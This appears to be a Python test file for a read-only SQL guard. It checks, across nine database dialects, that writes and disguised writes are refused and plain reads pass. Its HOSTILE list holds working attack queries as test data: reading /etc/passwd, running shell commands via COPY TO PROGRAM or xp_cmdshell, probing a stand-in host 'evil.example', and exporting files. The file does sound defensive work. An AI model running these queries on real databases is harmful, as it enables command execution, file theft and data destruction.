"""What the guard of SQL refuses and lets pass, database by database."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cowork_desktop.connectors.drivers.driver import DriverFailed
from cowork_desktop.connectors.sql_functions import Dialect
from cowork_desktop.connectors.sql_guard import check_read, is_read

DIALECTS: tuple[Dialect, ...] = (
    "postgres",
    "redshift",
    "mysql",
    "sqlite",
    "duckdb",
    "clickhouse",
    "tsql",
    "snowflake",
    "bigquery",
)

EVERYWHERE = [
    "INSERT INTO t VALUES (1)",
    "UPDATE t SET a = 1",
    "DELETE FROM t",
    "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE",
    "CREATE TABLE x (a INT)",
    "CREATE TABLE x AS SELECT 1",
    "CREATE OR REPLACE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
    "DROP TABLE t",
    "ALTER TABLE t ADD COLUMN b INT",
    "TRUNCATE TABLE t",
    "GRANT ALL ON t TO u",
    "REVOKE ALL ON t FROM u",
    "SELECT 1; DELETE FROM t",
    "SELECT 1; SELECT 2",
    ";DELETE FROM t",
    "SELECT 1 /* x */; /* y */ DROP TABLE t -- z",
    "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
    "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x",
    "WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM x",
    "WITH x AS (SELECT 1) DELETE FROM t",
    "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x",
    "EXPLAIN DELETE FROM t",
    "EXPLAIN ANALYZE INSERT INTO t VALUES (1)",
    "SELECT * FROM t FOR UPDATE",
    "BEGIN",
    "COMMIT",
    "SET x = 1",
    "CALL p()",
    "SELECT 1 \x00",
    "SELECT 1 /* never ends",
    "SELECT 'never ends",
    "SELECT 1 /*! , sleep(9) */",
    "SELECT 1 /*M! , 2 */",
    "SELECT 1 /*+ SET_VAR(x=1) */",
    "SELECT 1 /* a /* b */ ; DELETE FROM t /* c */ */",
    "SELECT\u00a01",
    "",
    " ; ",
    "-- nothing",
]

HOSTILE: list[tuple[Dialect, str]] = [
    ("postgres", "COPY t TO '/tmp/x'"),
    ("postgres", "COPY t FROM PROGRAM 'id'"),
    ("postgres", "COPY (SELECT 1) TO PROGRAM 'sh -c id'"),
    ("postgres", "DO $$ BEGIN DELETE FROM t; END $$"),
    ("postgres", "SELECT * INTO x FROM t"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')"),
    ("postgres", "SELECT PG_READ_FILE ( '/etc/passwd' )"),
    ("postgres", "SELECT pg_catalog.pg_read_binary_file('x')"),
    ("postgres", "SELECT \"pg_read_file\"('x')"),
    ("postgres", "SELECT pg_read_file/* x */('x')"),
    ("postgres", "SELECT lo_export(1, '/tmp/x'), lo_import('/etc/passwd')"),
    ("postgres", "SELECT * FROM dblink('host=h', 'delete from t') AS x(a int)"),
    ("postgres", "SELECT dblink_exec('c', 'drop table t')"),
    ("postgres", "SELECT query_to_xml('delete from t', true, true, '')"),
    ("postgres", "SELECT set_config('transaction_read_only', 'off', false)"),
    ("postgres", "SELECT nextval('s')"),
    ("postgres", "SELECT pg_terminate_backend(1)"),
    ("postgres", "SELECT pg_sleep(100)"),
    ("postgres", "SELECT pg_advisory_lock(1)"),
    ("postgres", "SELECT pg_notify('c', 'x')"),
    ("postgres", "SELECT ts_stat('delete from t')"),
    ("postgres", "SET TRANSACTION READ WRITE"),
    ("postgres", "SET SESSION AUTHORIZATION postgres"),
    ("postgres", "EXPLAIN (ANALYZE) DELETE FROM t"),
    ("postgres", "EXPLAIN (ANALYZE, BUFFERS) WITH x AS (DELETE FROM t RETURNING 1) SELECT 1"),
    ("postgres", "SELECT * FROM t FOR NO KEY UPDATE"),
    ("postgres", "SELECT * FROM t FOR SHARE"),
    ("postgres", "LOCK TABLE t"),
    ("postgres", "LISTEN c"),
    ("postgres", "PREPARE x AS DELETE FROM t"),
    ("postgres", "EXECUTE x"),
    ("postgres", "DECLARE c CURSOR FOR SELECT 1"),
    ("postgres", "VACUUM t"),
    ("postgres", "REFRESH MATERIALIZED VIEW v"),
    ("postgres", "SELECT '\\'; DELETE FROM t; --'"),
    ("postgres", "SELECT (SELECT 1 FROM (DELETE FROM t RETURNING 1) x)"),
    ("redshift", "UNLOAD ('select 1') TO 's3://x' IAM_ROLE 'y'"),
    ("redshift", "COPY t FROM 's3://x' IAM_ROLE 'y'"),
    ("mysql", "SELECT 1 INTO OUTFILE '/tmp/x'"),
    ("mysql", "SELECT a INTO DUMPFILE '/tmp/x' FROM t"),
    ("mysql", "SELECT a INTO @x FROM t"),
    ("mysql", "SELECT @x := 1"),
    ("mysql", "SELECT LOAD_FILE('/etc/passwd')"),
    ("mysql", "SELECT load_file (0x2f)"),
    ("mysql", "SELECT `load_file`('/etc/passwd')"),
    ("mysql", "SELECT SLEEP(10)"),
    ("mysql", "SELECT BENCHMARK(1000000000, md5('x'))"),
    ("mysql", "SELECT GET_LOCK('x', 1)"),
    ("mysql", "SELECT sys_exec('id')"),
    ("mysql", "SELECT delete_everything()"),
    ("mysql", "SELECT shop.delete_everything()"),
    ("mysql", "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t"),
    ("mysql", "/*!50000 DELETE FROM t */"),
    ("mysql", "SELECT 1 /*!99999 */"),
    ("mysql", "SELECT 1 --1\n"),
    ("mysql", "REPLACE INTO t VALUES (1)"),
    ("mysql", "HANDLER t OPEN"),
    ("mysql", "SELECT * FROM t LOCK IN SHARE MODE"),
    ("mysql", "SELECT 1 FROM t PROCEDURE ANALYSE()"),
    ("mysql", "DESCRIBE DELETE FROM t"),
    ("mysql", "EXPLAIN FORMAT=JSON DELETE FROM t"),
    ("mysql", "ANALYZE TABLE t"),
    ("mysql", "FLUSH TABLES"),
    ("mysql", "KILL 1"),
    ("mysql", "SHOW TABLES WHERE sleep(5)"),
    ("sqlite", "ATTACH DATABASE '/tmp/x' AS x"),
    ("sqlite", "DETACH x"),
    ("sqlite", "PRAGMA writable_schema = 1"),
    ("sqlite", "PRAGMA journal_mode = DELETE"),
    ("sqlite", "PRAGMA query_only(0)"),
    ("sqlite", "SELECT load_extension('/tmp/x.so')"),
    ("sqlite", "SELECT writefile('/tmp/x', 'y')"),
    ("sqlite", "SELECT readfile('/etc/passwd')"),
    ("sqlite", "SELECT fts3_tokenizer('x', 'y')"),
    ("sqlite", "VACUUM INTO '/tmp/x'"),
    ("sqlite", "REINDEX t"),
    ("sqlite", "EXPLAIN QUERY PLAN DELETE FROM t"),
    ("duckdb", "SELECT * FROM read_csv('/etc/passwd')"),
    ("duckdb", "SELECT * FROM read_csv_auto('/etc/passwd')"),
    ("duckdb", "SELECT * FROM 'secrets.csv'"),
    ("duckdb", 'SELECT * FROM "/etc/passwd.csv"'),
    ("duckdb", "FROM 'x.parquet'"),
    ("duckdb", "SELECT * FROM read_parquet(['x'])"),
    ("duckdb", "SELECT * FROM read_text('/etc/passwd')"),
    ("duckdb", "SELECT * FROM glob('/*')"),
    ("duckdb", "SELECT getenv('HOME')"),
    ("duckdb", "SELECT * FROM query('delete from t')"),
    ("duckdb", "SELECT * FROM sqlite_scan('x.db', 't')"),
    ("duckdb", "SELECT * FROM postgres_query('db', 'delete from t')"),
    ("duckdb", "COPY t TO '/tmp/x.csv'"),
    ("duckdb", "ATTACH 'x.db'"),
    ("duckdb", "INSTALL httpfs"),
    ("duckdb", "LOAD httpfs"),
    ("duckdb", "EXPORT DATABASE '/tmp/x'"),
    ("duckdb", "SET enable_external_access = true"),
    ("duckdb", "PRAGMA enable_profiling"),
    ("duckdb", "CHECKPOINT"),
    ("clickhouse", "SELECT * FROM url('http://x/', CSV, 'a String')"),
    ("clickhouse", "SELECT * FROM file('/etc/passwd', CSV, 'a String')"),
    ("clickhouse", "SELECT * FROM s3('http://x/', 'CSV')"),
    ("clickhouse", "SELECT * FROM remote('h', 'db.t')"),
    ("clickhouse", "SELECT * FROM mysql('h:3306', 'd', 't', 'u', 'p')"),
    ("clickhouse", "SELECT * FROM executable('id', CSV, 'a String')"),
    ("clickhouse", "SELECT sleep(3)"),
    ("clickhouse", "SELECT 1 INTO OUTFILE '/tmp/x'"),
    ("clickhouse", "OPTIMIZE TABLE t"),
    ("clickhouse", "SYSTEM SHUTDOWN"),
    ("clickhouse", "KILL QUERY WHERE 1"),
    ("tsql", "SELECT 1 DELETE FROM t"),
    ("tsql", "SELECT a FROM t DROP TABLE t"),
    ("tsql", "SELECT 1\nEXEC xp_cmdshell 'dir'"),
    ("tsql", "EXEC sp_who"),
    ("tsql", "SELECT * FROM sys.dm_os_file_exists('//evil.example/x')"),
    ("tsql", "SELECT * FROM sys.dm_os_enumerate_filesystem('//evil.example/x/', '*')"),
    ("snowflake", "SELECT embed_text_768('m', a) FROM t"),
    ("bigquery", "SELECT OBJ.GET_ACCESS_URL(ref, 'r') FROM t"),
    ("tsql", "SELECT * INTO x FROM t"),
    ("tsql", "SELECT * FROM OPENROWSET(BULK 'c:\\x', SINGLE_CLOB) x"),
    ("tsql", "SELECT * FROM OPENQUERY(s, 'delete from t')"),
    ("tsql", "SELECT NEXT VALUE FOR s"),
    ("tsql", "WAITFOR DELAY '0:0:9'"),
    ("tsql", "SELECT 1 SHUTDOWN"),
    ("snowflake", "SELECT $1 FROM @stage/x"),
    ("snowflake", "COPY INTO @s FROM t"),
    ("snowflake", "SELECT SYSTEM$CANCEL_ALL_QUERIES(1)"),
    ("snowflake", "SELECT s.NEXTVAL"),
    ("snowflake", "PUT file:///etc/passwd @s"),
    ("snowflake", "EXECUTE IMMEDIATE 'delete from t'"),
    ("snowflake", "USE ROLE accountadmin"),
    ("bigquery", "SELECT * FROM EXTERNAL_QUERY('c', 'delete from t')"),
    ("bigquery", "EXPORT DATA OPTIONS (uri='gs://x/*') AS SELECT 1"),
    ("bigquery", "DECLARE x INT64; SELECT x"),
    ("bigquery", "EXECUTE IMMEDIATE 'delete from t'"),
    ("bigquery", "LOAD DATA INTO t FROM FILES (uris=['gs://x'])"),
]

HONEST: list[tuple[Dialect, str]] = [
    *((dialect, "SELECT 1") for dialect in DIALECTS),
    *(
        (dialect, "select a, count(*) as n from t where b = 'x' group by a order by n desc;")
        for dialect in DIALECTS
    ),
    *(
        (dialect, "WITH x AS (SELECT a FROM t) SELECT * FROM x UNION ALL SELECT b FROM s")
        for dialect in DIALECTS
    ),
    *((dialect, "SELECT '; DROP TABLE t', '-- x', '/* y */' FROM t") for dialect in DIALECTS),
    *((dialect, "SELECT a, sum(b) OVER (PARTITION BY c ORDER BY d) FROM t -- sums") for dialect in DIALECTS),
    *((dialect, "/* first */ SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t") for dialect in DIALECTS),
    ("postgres", "SELECT a->>'b', c #> '{d}', e @> '{1}' FROM t"),
    ("postgres", "SELECT x::date, interval '1 day', now() - '1 week'::interval FROM t"),
    ("postgres", "SELECT * FROM t LEFT JOIN LATERAL (SELECT * FROM s WHERE s.a = t.a LIMIT 1) x ON true"),
    ("postgres", "SELECT generate_series(1, 10), md5(random()::text)"),
    (
        "postgres",
        "SELECT array_agg(b ORDER BY c) FILTER (WHERE a), percentile_cont(0.5) WITHIN GROUP (ORDER BY d)"
        " FROM t",
    ),
    ("postgres", "SELECT $$a; b$$"),
    ("postgres", 'SELECT "größe", \'naïve\', "select" FROM "Tabelle"'),
    ("postgres", "TABLE t"),
    ("postgres", "VALUES (1, 'a'), (2, 'b')"),
    ("postgres", "SHOW server_version"),
    ("postgres", "EXPLAIN SELECT * FROM t"),
    ("postgres", "EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT * FROM t"),
    ("postgres", "SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b DESC OFFSET 5 FETCH FIRST 3 ROWS ONLY"),
    ("postgres", "SELECT * FROM t TABLESAMPLE SYSTEM (1)"),
    ("postgres", "SELECT updated_at, deleted_at, insert_count FROM t WHERE action = 'DELETE'"),
    ("mysql", "SHOW TABLES"),
    ("mysql", "SHOW CREATE TABLE t"),
    ("mysql", "DESCRIBE t"),
    ("mysql", "EXPLAIN SELECT 1"),
    ("mysql", "EXPLAIN FORMAT=JSON SELECT * FROM t"),
    ("mysql", "SELECT `a`, \"text\", 'it\\'s' FROM `my table` # comment"),
    (
        "mysql",
        "SELECT DATE_FORMAT(a, '%Y'), GROUP_CONCAT(b SEPARATOR ','), JSON_EXTRACT(c, '$.d') FROM t"
        " LIMIT 5, 10",
    ),
    ("mysql", "SELECT INSERT('abc', 1, 1, 'x'), REPLACE(a, 'b', 'c'), TRUNCATE(1.5, 0), UUID() FROM t"),
    ("mysql", "SELECT @@version, @x"),
    ("sqlite", "PRAGMA table_info(t)"),
    ("sqlite", "PRAGMA user_version"),
    ("sqlite", "EXPLAIN QUERY PLAN SELECT * FROM t"),
    ("sqlite", "SELECT strftime('%Y', a), json_extract(b, '$.c'), a || b FROM t WHERE a GLOB 'x*'"),
    ("sqlite", "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 9) SELECT * FROM n"),
    ("duckdb", "FROM t SELECT a"),
    ("duckdb", "SUMMARIZE t"),
    ("duckdb", "DESCRIBE t"),
    ("duckdb", "SELECT list_transform([1, 2], x -> x + 1), {'a': 1}, a.b.c FROM t"),
    ("duckdb", "SELECT * EXCLUDE (a) FROM t QUALIFY row_number() OVER (ORDER BY b) = 1"),
    ("clickhouse", "SELECT toStartOfMonth(a), uniq(b), quantile(0.9)(c) FROM t ARRAY JOIN d PREWHERE e"),
    ("clickhouse", "DESCRIBE TABLE t"),
    ("clickhouse", "SHOW TABLES"),
    ("tsql", "SELECT TOP 10 [update], [a b] FROM dbo.t WITH (NOLOCK) CROSS APPLY (SELECT 1 AS x) s"),
    (
        "tsql",
        "SELECT DATEADD(day, 1, GETDATE()), ISNULL(a, 0) FROM t ORDER BY a OFFSET 5 ROWS FETCH NEXT 3"
        " ROWS ONLY",
    ),
    ("snowflake", "SELECT v:a.b::string, f.value FROM t, LATERAL FLATTEN(input => v) f"),
    ("snowflake", "SHOW TABLES"),
    ("snowflake", "SELECT * FROM TABLE(RESULT_SCAN('x'))"),
    ("bigquery", "SELECT * FROM `p.d.t_*` WHERE _TABLE_SUFFIX > '2026' AND a IN UNNEST([1, 2])"),
    ("bigquery", "SELECT STRUCT(1 AS a), SAFE_CAST(b AS INT64), c[OFFSET(0)] FROM t"),
]


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("sql", EVERYWHERE)
def test_what_changes_something_is_refused_everywhere(sql: str, dialect: Dialect) -> None:
    with pytest.raises(DriverFailed) as refused:
        check_read(sql, dialect)
    assert refused.value.kind in ("not_allowed", "bad_query")


@pytest.mark.parametrize(("dialect", "sql"), HOSTILE)
def test_what_changes_something_or_reaches_out_is_refused(dialect: Dialect, sql: str) -> None:
    with pytest.raises(DriverFailed) as refused:
        check_read(sql, dialect)
    assert refused.value.kind in ("not_allowed", "bad_query")


@pytest.mark.parametrize(("dialect", "sql"), HONEST)
def test_what_reads_is_let_pass(dialect: Dialect, sql: str) -> None:
    read = check_read(sql, dialect).sql
    assert sql.startswith(read)
    assert sql.removeprefix(read).strip() in ("", ";", "-- sums", "# comment")


def test_the_functions_are_told_as_they_are_called() -> None:
    sql = 'SELECT lower(a), "Odd"(b), s.f (c), pg_catalog.upper/* x */(d) FROM g(1) WHERE x IN (1)'
    assert check_read(sql, "postgres").functions == {"lower", "odd", "s.f", "pg_catalog.upper", "g", "in"}


def test_the_words_name_what_was_found() -> None:
    with pytest.raises(DriverFailed, match="DELETE in a query would change something"):
        check_read("WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x", "postgres")
    with pytest.raises(DriverFailed, match="the function pg_read_file has effects"):
        check_read("SELECT pg_read_file('x')", "postgres")


def test_a_very_long_statement_is_refused() -> None:
    assert not is_read("SELECT " + "1+" * 150_000 + "1", "postgres")


def test_a_very_deep_statement_is_refused_or_read_but_breaks_nothing() -> None:
    is_read("SELECT " + "(" * 5_000 + "1" + ")" * 5_000, "postgres")


_BLANKS = st.sampled_from([" ", "\n", "\t", " /* x */ ", "/**/", " -- y\n", "\r\n"])
_WRITES = st.sampled_from(
    ["DELETE FROM t", "INSERT INTO t VALUES (1)", "UPDATE t SET a = 1", "DROP TABLE t", "TRUNCATE TABLE t"]
)
_AROUND = st.sampled_from(
    [
        "{}",
        "SELECT 1; {}",
        "WITH x AS (SELECT 1) {}",
        "WITH x AS ({} RETURNING 1) SELECT * FROM x",
        "({})",
        "{};",
        "SELECT * FROM ({}) x",
        "EXPLAIN {}",
        "SELECT 1 UNION {}",
        "SELECT (({}))",
        "SELECT '''; {}",
    ]
)


@given(_WRITES, _AROUND, st.lists(_BLANKS, min_size=1, max_size=4), st.sampled_from(DIALECTS), st.booleans())
@example("DELETE FROM t", "{}", [" "], "tsql", True)
def test_no_disguise_of_a_write_passes(
    write: str, around: str, blanks: list[str], dialect: Dialect, is_small: bool
) -> None:
    sql = around.format(write)
    words = sql.split(" ")
    written = "".join(word + blanks[n % len(blanks)] for n, word in enumerate(words))
    assert not is_read(written.lower() if is_small else written, dialect)


@given(st.text(max_size=60), st.sampled_from(DIALECTS))
def test_any_text_is_read_or_refused(text: str, dialect: Dialect) -> None:
    is_read(text, dialect)
